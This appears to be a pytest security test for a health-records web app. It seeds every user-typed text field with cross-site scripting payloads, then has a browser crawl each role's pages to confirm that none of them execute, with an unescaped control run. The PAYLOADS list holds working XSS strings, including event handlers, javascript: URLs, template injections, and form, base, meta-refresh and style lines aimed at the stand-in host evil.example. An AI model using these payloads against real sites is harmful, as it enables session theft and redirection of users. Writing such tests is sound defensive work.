"""Given every free text of a district poisoned, when a real browser walks the pages of each role, then nothing runs.

Names, complaints, reasons, notes, titles of files, places: every text that anybody could have typed gets a payload.
The payloads mark what they would make of a page, so that an element which came out of a text is found even where the
page's own policy would have kept it from running.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any, Final
from urllib.parse import quote, urlsplit

import pytest
from django.urls import Resolver404, resolve
from playwright.sync_api import Error

from doorstep.kernel import exact, readers
from doorstep.kernel.access import SYSTEM
from doorstep.kernel.definitions import definitions
from doorstep.kernel.readers import Wanted
from doorstep.kernel.store import Store
from doorstep.workflows import cases, consent, relations
from doorstep.workflows.consent import Terms
from doorstep.workflows.coordination import day
from tests.district import DOCTOR, opened, ordered, sent, who
from tests.rights.people import patient, put_people, resident
from tests.web.browsing import Screen, chromium
from tests.web.conftest import PASSWORD, Site, accounts, demo_site, posting

__all__ = ["accounts", "demo_site"]

MARK: Final = "zzxss"
_RUN: Final = f"window.{MARK}=1"
PAYLOADS: Final = (
    f"<script {MARK}>{_RUN}</script>", f"<img {MARK} src=x onerror={_RUN}>", f"\"><svg {MARK} onload={_RUN}>",
    f"'><b {MARK} onmouseover={_RUN}>", f"</title></textarea></option></style><script {MARK}>{_RUN}</script>",
    f"<a {MARK} href=javascript:{_RUN}>x</a>", f"<iframe {MARK} srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"\" autofocus onfocus={_RUN} {MARK}=\"", f"' onpointerenter={_RUN} {MARK}='", f"-->]]><details {MARK} open ontoggle={_RUN}>",
    f"<form {MARK} action=https://evil.example><button>x</button></form>", f"<base {MARK} href=https://evil.example/>",
    f"<meta {MARK} http-equiv=refresh content=0;url=https://evil.example>", f"<i {MARK} hx-get=/evil hx-trigger=load hx-on::load={_RUN}>",
    f"<style {MARK}>@import 'https://evil.example'</style>", f"{{{{7|add:{MARK}}}}}{{% now {MARK} %}}${{{_RUN}}}",
    f"\\u003cscript {MARK}\\u003e{_RUN}</script>", f"<math {MARK}><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
    f"&lt;script {MARK}&gt;{_RUN}&lt;/script&gt;", f"<object {MARK} data=javascript:{_RUN}>",
)  # fmt: skip
TYPED: Final = frozenset({
    "text", "display", "valueString", "contentString", "title", "description", "comment", "conclusion", "family",
    "alias", "given", "line", "note", "answer", "patientInstruction",
})  # fmt: skip
"""The members of a resource into which somebody typed."""
PEOPLE: Final = ("zhangmin", "zhaoqian", "liting", "wugang", "officer", "resident")
SHOWN: Final = frozenset({
    "r/<str:resident>/", "v/<str:encounter>/", "t/<str:task>/", "w/<str:name>/", "admin/people/",
    "admin/people/<str:practitioner>/", "admin/institutions/<str:organization>/", "admin/places/", "me/readers/",
    "me/items/", "me/consents/", "me/proxies/", "privacy/<str:name>/<str:task>/", "p/referral/<str:task>/",
})  # fmt: skip
"""Pages on which a poisoned text must really stand: else the walk would be blind."""
ASKED: Final = ("q", "name", "number", "day", "month", "cursor", "code", "what", "institution")


@pytest.fixture
def district_url(district_on_one_engine: str) -> str:
    """A page is the same over every engine."""
    return district_on_one_engine


def busy(store: Store) -> str:
    """Something of everything that people write texts into; the id of a referral."""
    put_people(store)
    encounter = opened(store)
    ordered(store, encounter)
    task = sent(store, encounter)
    store.run(resident(), consent.give, resident=patient(), terms=Terms("Organization/zhuxi"))
    store.run(resident(), relations.name_proxy, resident=patient(), name="王五", phone="13800000000", relationship="CHILD", scope="all",
              until=(day(store.clock.now()) + timedelta(days=90)).isoformat())
    with store.snapshot(resident(), audited=False) as reads:
        seen, _ = readers.page(reads, Wanted(who().id))
    entry = next(each.id for each in seen if each.organization == DOCTOR.organization)
    store.run(resident(), cases.ask, resident=patient(), entry=entry, note="为什么查阅")
    return task


def poison(store: Store) -> int:
    """Put a payload behind every typed text of the record; how many there were."""
    count = 0

    def through(node: Any, name: str = "") -> Any:
        nonlocal count
        if isinstance(node, dict):
            return {key: through(value, key) for key, value in node.items() if key != "meta"} | ({"meta": node["meta"]} if "meta" in node else {})
        if isinstance(node, list):
            return [through(value, name) for value in node]
        if isinstance(node, str) and (name in TYPED or (name == "name" and node)):
            count += 1
            return node + PAYLOADS[count % len(PAYLOADS)]
        return node

    numbers = {number: name for name, number in definitions().number.items()}
    for number, body in store.engine.once("SELECT type, body FROM resource WHERE deleted = 0"):
        if numbers[number] in ("Provenance", "AuditEvent"):
            continue
        changed = through(exact.decode(body))
        store.run(SYSTEM, lambda tx, changed=changed: tx.update(changed))
    return count


def route_of(address: str) -> str | None:
    try:
        return str(resolve(urlsplit(address).path).route)
    except Resolver404:
        return None


class Walk:
    """One person's way through every kind of page that they can reach by links."""

    def __init__(self, screen: Screen, seen: dict[str, bool]) -> None:
        self.screen = screen
        self.seen = seen
        """Route -> whether a poisoned text stood there. What somebody else has looked at is looked at no more."""
        self.wrong: list[str] = []

    def go(self, *first: str) -> None:
        waiting, done = [*first, "/"], {route for route, text in self.seen.items() if text and route}
        while waiting:
            address = waiting.pop(0)
            route = route_of(address)
            if route in done or route is None:
                continue
            done.add(route)
            waiting += self.look(address, route)
            if "<" not in route and "?" not in address:
                self.look(address + "?" + "&".join(f"{name}={quote(PAYLOADS[2])}" for name in ASKED), route)

    def look(self, address: str, route: str) -> list[str]:
        try:
            answer = self.screen.page.goto(self.screen.base + address)
            if answer is None or answer.status >= 500:
                self.wrong.append(f"{address}: {answer and answer.status}")
            found = self.screen.page.evaluate(_LOOK, MARK)
        except Error as gone:
            self.wrong.append(f"{address}: led away: {gone}")
            return []
        self.wrong += [f"{address}: {each}" for each in found["wrong"]]
        self.seen[route] = self.seen.get(route, False) or found["text"]
        return [each for each in found["links"] if not each.startswith(("/sign-out", "/static", "/style", "/language"))]


_LOOK: Final = """mark => {
  const wrong = [];
  if (window[mark]) wrong.push('ran');
  for (const e of document.querySelectorAll('*')) {
    if (e.hasAttribute(mark)) wrong.push('made ' + e.outerHTML.slice(0, 120));
    for (const a of e.attributes) {
      if (a.name.startsWith('on')) wrong.push('handler ' + a.name + ' on ' + e.tagName);
      if (['href', 'src', 'action', 'formaction', 'data'].includes(a.name) && /^\\s*(javascript|data:text)/i.test(a.value)) wrong.push('address ' + a.value.slice(0, 80));
    }
    e.dispatchEvent(new Event('pointerenter')); e.dispatchEvent(new Event('mouseover'));
  }
  if (window[mark]) wrong.push('ran when touched');
  const links = [...document.links].map(a => new URL(a.href)).filter(u => u.origin === location.origin).map(u => u.pathname + u.search);
  const boxes = [...document.querySelectorAll('input,textarea')].map(e => e.value).join(' ');
  return {wrong, links, text: (document.body.innerText + boxes).includes(mark)};
}"""


def entered(browser: Any, site: Site, account: str) -> Screen:
    cookies = site.enter(account).cookies()
    site.store.engine.write([("UPDATE session SET factor = 'test'", [])])
    screen = Screen(browser, site.base)
    screen.context.add_cookies([{"name": name, "value": value, "url": site.base} for name, value in cookies.items()])
    return screen


def walked(browser: Any, site: Site, names: tuple[str, ...], **first: str) -> tuple[dict[str, bool], list[str]]:
    seen: dict[str, bool] = {}
    wrong: list[str] = []
    for name in names:
        screen = entered(browser, site, name)
        walk = Walk(screen, seen)
        walk.go(*first.get(name, "").split())
        screen.context.close()
        wrong += [f"{name} {each}" for each in (*walk.wrong, *screen.wrong)]
    return seen, wrong


def test_no_text_that_anybody_typed_runs_on_any_page(demo_site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    from django.template import engines

    from doorstep.web.accounts.models import Account

    task = busy(demo_site.store)
    Account.objects.make("officer", PASSWORD, "Practitioner/officer-shiqiao")
    Account.objects.make("resident", PASSWORD, patient())
    demo_site.store.run(SYSTEM, lambda tx: tx.update(posting("officer-shiqiao", "shiqiao", "auditor")))
    assert poison(demo_site.store) > 300
    with chromium() as browser:
        seen, wrong = walked(browser, demo_site, PEOPLE, zhangmin=f"/p/referral/{task}/", officer="/privacy/question/")
        assert wrong == []
        assert sorted(route for route in SHOWN if not seen.get(route)) == []
        careless = Walk(entered(browser, demo_site, "zhangmin"), {})
        monkeypatch.setattr(engines["django"].engine, "autoescape", False)
        careless.look(f"/r/{who().id}/", "control")
        assert careless.wrong != [], "the control: without escaping the walk must see it"
